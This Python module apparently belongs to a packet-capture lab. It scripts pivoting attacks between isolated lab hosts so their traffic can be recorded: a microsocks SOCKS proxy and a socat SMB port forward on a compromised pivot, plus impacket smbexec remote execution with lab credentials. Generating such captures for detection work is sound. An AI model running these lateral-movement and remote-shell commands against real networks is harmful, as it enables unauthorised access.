"""Pivoting: an attacker reaches a web server through microsocks and a file server through a port forward of socat on a
compromised host; and smbexec of impacket against a server that requires encryption. Needs microsocks, socat, curl,
smbclient, samba, and the package impacket.

Run it as ``python -m pcaps.lab.attacks.pivots [SCENE...]``.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path

from pcaps.lab._lab import Host, Lab, record
from pcaps.lab._programs import ACCOUNT, PASSWORD, file_server

ATTACKER, PIVOT, SERVER = "10.20.10.66", "10.20.10.40", "10.20.10.5"
LOGIN = f"OFFICE/{ACCOUNT}%{PASSWORD}"


def _hosts(lab: Lab) -> tuple[Host, Host, Host]:
    return lab.host("attacker", ATTACKER), lab.host("pivot", PIVOT), lab.host("files", SERVER)


def socks(lab: Lab) -> Iterator[None]:
    attacker, pivot, server = _hosts(lab)
    lab.serve(server, "pages", port=80)
    lab.start(pivot, "microsocks", "-p", "1080", port=1080)
    yield
    for scheme in ("socks5", "socks5h", "socks4"):
        lab.run(attacker, "curl", "-s", "-m", "5", "-x", f"{scheme}://{PIVOT}:1080", f"http://{SERVER}/notes-3000.txt")


def forward(lab: Lab) -> Iterator[None]:
    attacker, pivot, server = _hosts(lab)
    file_server(lab, server, "team")
    lab.start(pivot, "socat", "TCP-LISTEN:4455,fork,reuseaddr", f"TCP:{SERVER}:445", port=4455)
    yield
    lab.run(attacker, "smbclient", f"//{PIVOT}/team", "-p", "4455", "-U", LOGIN, "-c", "ls")


def encrypted(lab: Lab) -> Iterator[None]:
    attacker, _, server = _hosts(lab)
    file_server(lab, server, "team", "ADMIN$", encrypt="required")
    yield
    tool = Path(sys.executable).parent / "smbexec.py"
    target = f"OFFICE/{ACCOUNT}:{PASSWORD}@{SERVER}"
    lab.run(attacker, "timeout", "60", sys.executable, str(tool), target, stdin="exit\n")


if __name__ == "__main__":
    record(Path(__file__).parent, pivot_socks=socks, pivot_forward=forward, pivot_encrypted=encrypted)
